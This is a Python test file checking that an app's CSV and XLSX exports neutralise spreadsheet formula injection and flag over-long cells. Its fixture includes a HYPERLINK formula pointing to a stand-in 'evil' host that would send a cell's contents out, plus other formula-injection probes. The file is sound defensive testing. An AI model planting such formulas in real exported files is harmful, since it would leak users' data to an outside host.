"""Tables leaving the app (cx/export.py): safe to open in a spreadsheet (issue 17, items 9
and 13)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd

from cx.export import XLSX_CELL_LIMIT, to_csv_bytes, to_xlsx_bytes

HEADER = '=HYPERLINK("http://evil/?"&A2,"Note")'


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"company": ["Alfa", "Beta"], HEADER: [" =1+1", "@SUM(A1)"],
                         "n": [1, 2]})


def test_csv_neutralises_headers_and_values_after_leading_spaces():
    text = to_csv_bytes(_frame()).decode("utf-8").splitlines()
    assert text[0].startswith("company,\"'=HYPERLINK(") and text[0].endswith(",n")
    assert text[1] == "Alfa,' =1+1,1" and text[2] == "Beta,'@SUM(A1),2"


def test_xlsx_cells_are_strings_never_formulas():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(_frame())))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells), "no formula cell"
    assert sheet["B1"].value == "'" + HEADER and sheet["B2"].value == "' =1+1"
    assert sheet["C2"].value == 1, "numbers stay numbers"


def test_an_over_long_cell_is_flagged_not_silently_cut():
    long = "x" * (XLSX_CELL_LIMIT + 5_000)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(pd.DataFrame({"answer": [long]}))))
    value = book.active["A2"].value
    assert len(value) <= XLSX_CELL_LIMIT and value.endswith("[…troncato: 37.767 caratteri]")
